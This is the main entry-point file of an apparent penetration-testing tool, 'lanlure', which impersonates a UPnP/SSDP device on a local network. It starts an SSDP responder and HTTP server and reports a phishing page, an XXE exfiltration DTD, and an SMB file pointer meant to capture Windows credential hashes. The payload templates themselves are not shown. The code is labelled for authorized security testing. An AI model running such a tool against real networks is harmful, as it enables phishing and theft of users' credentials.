#!/usr/bin/env node
import 'dotenv/config';
import path from 'path';
import http, { type Server } from 'http';
import {
  ConfigurationError,
  readEnvironment,
  resolveConfiguration,
  type AppConfig,
} from './config/Configuration.js';
import { USAGE, parseCommandLine } from './config/commandLine.js';
import { getIPv4ForInterface } from './network/interfaces.js';
import { createApp } from './server.js';
import { ShutdownController } from './shutdown.js';
import {
  createSessionIdentity,
  deviceDescriptorUrl,
  type SessionIdentity,
} from './session/sessionIdentity.js';
import { SSDPResponder } from './ssdp/SSDPResponder.js';
import { resolveSocketStrategy } from './ssdp/socketStrategy.js';
import {
  EXFIL_TEMPLATE_MARKER,
  TemplateEngine,
  listTemplates,
  templateVariablesFor,
  validateTemplateDir,
} from './templates/TemplateEngine.js';
import { describeError } from './utils/describeError.js';
import { EventLog } from './utils/logger/EventLog.js';
import { FileLogSink } from './utils/logger/FileLogSink.js';

const VERSION = process.env.npm_package_version ?? 'dev';

function printDetails(log: EventLog, config: AppConfig, session: SessionIdentity) {
  const base = `http://${session.localIp}:${session.localPort}`;

  log.raw('');
  log.raw('########################################');
  log.event('INFO', `TEMPLATE:                ${session.templateDir}`);
  log.event('INFO', `MSEARCH LISTENER:        ${config.interface}`);
  log.event('INFO', `DEVICE DESCRIPTOR:       ${deviceDescriptorUrl(session)}`);
  log.event('INFO', `SERVICE DESCRIPTOR:      ${base}/ssdp/service-desc.xml`);
  log.event('INFO', `PHISHING PAGE:           ${base}/present.html`);
  if (session.redirectUrl) {
    log.event('INFO', `REDIRECT URL:            ${session.redirectUrl}`);
  }
  if (session.auth.enabled) {
    log.event('INFO', `AUTH ENABLED, REALM:     ${session.auth.realm}`);
  }
  if (session.templateDir.includes(EXFIL_TEMPLATE_MARKER)) {
    log.event('INFO', `EXFIL PAGE:              ${base}/ssdp/data.dtd`);
  } else {
    log.event('INFO', `SMB POINTER:             file://///${session.smbServer}/smb/hash.jpg`);
  }
  if (session.analyzeOnly) {
    log.event('WARN', 'ANALYZE MODE:            ENABLED');
  }
  log.raw('########################################');
  log.raw('');
}

function listen(server: Server, port: number, host: string): Promise<void> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, host, () => {
      server.off('error', reject);
      resolve();
    });
  });
}

async function main(): Promise<number> {
  const commandLine = parseCommandLine(process.argv.slice(2));

  if (commandLine.help) {
    console.log(USAGE);
    return 0;
  }
  if (commandLine.version) {
    console.log(`lanlure ${VERSION}`);
    return 0;
  }

  const config = resolveConfiguration(
    readEnvironment(process.env),
    commandLine.values,
  );

  if (commandLine.list) {
    for (const name of listTemplates(config.templatesDir)) {
      console.log(name);
    }
    return 0;
  }

  const sink = new FileLogSink({
    filePath: config.logFile,
    retentionDays: config.logRetentionDays,
  });
  sink.startRotation();
  const log = new EventLog(sink);

  console.log(`lanlure ${VERSION} - SSDP device impersonation for authorized testing\n`);

  try {
    const localIp = getIPv4ForInterface(config.interface);
    const templateDir = path.join(config.templatesDir, config.template);
    validateTemplateDir(templateDir);

    const session = createSessionIdentity({
      localIp,
      localPort: config.port,
      smbServer: config.smbServer ?? localIp,
      redirectUrl: config.redirectUrl,
      analyzeOnly: config.analyzeOnly,
      auth: { enabled: config.basicAuth, realm: config.realm },
      templateDir,
    });

    const responder = new SSDPResponder({
      session,
      log,
      strategy: resolveSocketStrategy(),
    });
    const shutdown = new ShutdownController(log);
    shutdown.watchFailures(responder, 'fatal', 'SSDP listener');
    await responder.start();

    const app = createApp({
      session,
      log,
      templates: new TemplateEngine(templateDir, templateVariablesFor(session)),
      assetsDir: path.join(config.templatesDir, 'assets'),
    });
    const httpServer = http.createServer(app);
    try {
      await listen(httpServer, session.localPort, session.localIp);
    } catch (error) {
      responder.stop();
      throw error;
    }
    shutdown.watchFailures(httpServer, 'error', 'HTTP server');
    shutdown.watchSignals();
    log.event('INFO', `HTTP server listening on ${session.localIp}:${session.localPort}`);

    if (!shutdown.triggered) {
      printDetails(log, config, session);
    }

    const code = await shutdown.wait();
    responder.stop();
    httpServer.closeAllConnections();
    await new Promise<void>((resolve) => httpServer.close(() => resolve()));
    return code;
  } catch (error) {
    log.event('WARN', describeError(error));
    return 1;
  } finally {
    sink.close();
  }
}

main()
  .then((code) => process.exit(code))
  .catch((error: unknown) => {
    if (error instanceof ConfigurationError) {
      console.error(`Error parsing arguments: ${error.message}\n`);
      console.error(USAGE);
    } else {
      console.error('Fatal error:', error);
    }
    process.exit(1);
  });
